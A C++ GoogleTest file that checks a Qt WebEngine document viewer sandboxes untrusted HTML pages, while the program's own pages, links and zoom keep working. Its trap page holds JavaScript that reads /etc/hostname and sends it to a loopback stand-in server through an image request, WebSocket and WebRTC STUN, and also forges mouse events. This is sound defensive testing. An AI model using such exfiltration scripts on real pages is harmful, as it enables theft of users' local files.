// The document view keeps a base's pages inert, in the real web engine: a drawing page made to try
// every way out, beside the program's own pages, which must still work. A local server stands for
// the outside: any request or packet that reaches it is a leak.

#include <QDesktopServices>
#include <QFile>
#include <QNetworkDatagram>
#include <QSignalSpy>
#include <QTcpServer>
#include <QTemporaryDir>
#include <QTest>
#include <QTextBrowser>
#include <QUdpSocket>
#include <QWebEnginePage>
#include <QWebEngineScript>

#include <gtest/gtest.h>

#include <filesystem>

#include "Fixture_Documents.h"
#include "WebTexte.h"
#include "cImgs.h"
#include "frmZoom.h"

namespace kestrane::test {
namespace {

namespace fs = std::filesystem;

// A picture outside the documents, reached by its path and through a link placed among them; a
// picture, a style sheet and a frame on another site; scripts that read a file and send it out by
// a request, a WebSocket and WebRTC's STUN packets, and that press the mouse on the drawing.
const char* const Piege = R"html(
<img id="dehors" src="file://%1/dehors.png"><img id="lien" src="lien.png">
<img id="distant" src="http://127.0.0.1:%2/image.png"><link rel="stylesheet" href="http://127.0.0.1:%2/style.css">
<iframe src="http://127.0.0.1:%2/cadre.html"></iframe><iframe src="file:///etc/hostname"></iframe>
<p style="position:absolute; left:600px; top:80px"><a href="https://example.org/page">out</a> <a href="file:///etc/">files</a>
<a href="file://%1/help/guide.html">guide</a></p>
<script>
document.title = 'script';
fetch('file:///etc/hostname').then(r => r.text()).then(t => { new Image().src = 'http://127.0.0.1:%2/?' + t; });
try { new WebSocket('ws://127.0.0.1:%2/'); } catch (e) {}
try {
  const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:%3'}]});
  pc.createDataChannel('d');
  pc.createOffer().then(o => pc.setLocalDescription(o));
} catch (e) {}
setInterval(() => document.getElementById('dessin').dispatchEvent(
    new MouseEvent('mousedown', {clientX: 2147483647, clientY: 100, bubbles: true})), 100);
</script>
)html";

struct Dehors {
    Dehors() {
        EXPECT_TRUE(tcp.listen(QHostAddress::LocalHost));
        EXPECT_TRUE(udp.bind(QHostAddress::LocalHost));
        QObject::connect(&tcp, &QTcpServer::newConnection, [this] { ++connexions; });
        QObject::connect(&udp, &QUdpSocket::readyRead, [this] {
            while (udp.hasPendingDatagrams()) {
                udp.receiveDatagram();
                ++paquets;
            }
        });
    }
    QTcpServer tcp;
    QUdpSocket udp;
    int connexions = 0, paquets = 0;
};

struct Confinement : ::testing::Test {
    void Piege_La_Page(const Copie_Base& copie) {
        const fs::path racine = copie.Dossier(), docs = racine / "documents/f/frexc";
        fs::copy_file(docs / "frexc.gif", racine / "dehors.png");
        fs::create_symlink(racine / "dehors.png", docs / "lien.png");
        QFile page(QString::fromStdString((docs / "dessin_frexc_en.html").string()));
        ASSERT_TRUE(page.open(QIODevice::ReadWrite));
        QString texte = QString::fromUtf8(page.readAll());
        texte.replace(QStringLiteral("</body>"), QString::fromLatin1(Piege)
                                                         .arg(QString::fromStdString(racine.string()))
                                                         .arg(dehors.tcp.serverPort())
                                                         .arg(dehors.udp.localPort()) +
                                                     QStringLiteral("</body>"));
        page.resize(0);
        page.write(texte.toUtf8());
    }
    // Runs a script in the program's own world and gives its result.
    QVariant Evalue(const QString& script) {
        QVariant resultat;
        bool fini = false;
        bac.documents->Vue().page()->runJavaScript(script, cImgs::Monde(), [&](const QVariant& r) {
            resultat = r;
            fini = true;
        });
        EXPECT_TRUE(Attend([&] { return fini; }));
        return resultat;
    }

    Dehors dehors;
    Bac_Documents bac{[this](const Copie_Base& c) { Piege_La_Page(c); }};
    Documents& d = *bac.documents;
};

TEST_F(Confinement, PagesRunNoScriptReadNothingOutsideReachNoNetworkAndLeaveOnlyByAsking) {
    bac.reglages.Rep_Executables = bac.flore.copie.Dossier().string() + "/";
    QSignalSpy appuis(&d.Images(), &cImgs::MouseDown);
    d.Tree_esp_NodeClick(Frene);
    ASSERT_TRUE(Attend_Page(d, QStringLiteral("/frexc_en.html")));
    QSignalSpy pret(&d.Images(), &cImgs::Pret);
    ASSERT_TRUE(Suit_Lien(d, QStringLiteral("dessin_frexc_en.html")));
    ASSERT_TRUE(Attend([&] { return pret.count() == 1; }));
    // Events made up by a script of any other world than the program's own are not the user's.
    d.Vue().page()->runJavaScript(
        QStringLiteral("document.getElementById('dessin').dispatchEvent(new MouseEvent("
                       "'mousedown', {clientX: 2147483647, clientY: 9, bubbles: true}))"),
        QWebEngineScript::UserWorld);
    QTest::qWait(2000);  // time for whatever the page would do
    const QVariantList images =
        Evalue(
            QStringLiteral(
                "['dessin', 'dehors', 'lien', 'distant'].map(i => document.getElementById(i).naturalWidth)"))
            .toList();
    ASSERT_EQ(images.size(), 4);
    const struct {
        const char* voie;
        bool tenue;
    } voies[] = {
        {"no script of the page runs", d.Vue().title() != QStringLiteral("script")},
        {"the drawing, among the documents, shows", images[0].toInt() > 0},
        {"no file outside the documents is read, by its path or a link",
         images[1].toInt() == 0 && images[2].toInt() == 0},
        {"no request, frame or WebSocket reaches another site",
         dehors.connexions == 0 && images[3].toInt() == 0},
        {"no WebRTC packet leaves", dehors.paquets == 0},
        {"no event made up by a script reaches the zoom", appuis.isEmpty() && !d.Zoom().isVisible()},
    };
    for (const auto& v : voies) EXPECT_TRUE(v.tenue) << v.voie;

    // Links out: a file is not followed; a web address opens in the browser once the user agrees.
    QTextBrowser navigateur;  // stands for the desktop's browser
    QDesktopServices::setUrlHandler(QStringLiteral("https"), &navigateur, "setSource");
    bac.dialogues.reponses = {Reponse::Non, Reponse::Oui};
    const QString dehors_du_site = QStringLiteral("https://example.org/page"),
                  guide = QStringLiteral("file://") +
                          QString::fromStdString(bac.flore.copie.Dossier().string()) + "/help/guide.html";
    ASSERT_TRUE(Clique_Lien(d, QStringLiteral("file:///etc/")));
    for (size_t fois = 1; fois <= 2; ++fois) {
        ASSERT_TRUE(Clique_Lien(d, dehors_du_site));
        ASSERT_TRUE(Attend([&] { return bac.dialogues.messages.size() == fois; }));
    }
    EXPECT_TRUE(Attend([&] { return navigateur.source() == QUrl(dehors_du_site); }));
    QDesktopServices::unsetUrlHandler(QStringLiteral("https"));
    EXPECT_TRUE(bac.dialogues.messages[0].texte.contains(dehors_du_site));
    EXPECT_TRUE(d.Vue().Termine() && d.Vue().LocationURL().endsWith(QStringLiteral("dessin_frexc_en.html")));

    // The program's own pages: the drawing's zoom under a real press, the guide, a page it wrote,
    // the error page.
    QTest::mousePress(d.Vue().focusProxy(), Qt::LeftButton, {}, QPoint(112, 272));
    QTest::mouseRelease(d.Vue().focusProxy(), Qt::LeftButton, {}, QPoint(112, 272));
    EXPECT_TRUE(Attend([&] { return appuis.count() == 1 && d.Zoom().isVisible(); }));
    ASSERT_TRUE(Clique_Lien(d, guide));
    EXPECT_TRUE(Attend_Page(d, QStringLiteral("/help/guide.html")));
    QTemporaryDir ecrite;
    QFile page(ecrite.filePath(QStringLiteral("comparaison_en.html")));
    ASSERT_TRUE(page.open(QIODevice::WriteOnly) && page.write("<p>A and B</p>") > 0);
    page.close();
    d.Affiche_Fichier(page.fileName());
    EXPECT_TRUE(Attend_Page(d, QStringLiteral("/comparaison_en.html")));
    d.Tree_esp_NodeClick({"acer pseudoplatanus", "ACPSE", "Sapindaceae S.l."});
    EXPECT_TRUE(Attend_Page(d, QStringLiteral("/data/error_en.html")));
}

}  // namespace
}  // namespace kestrane::test
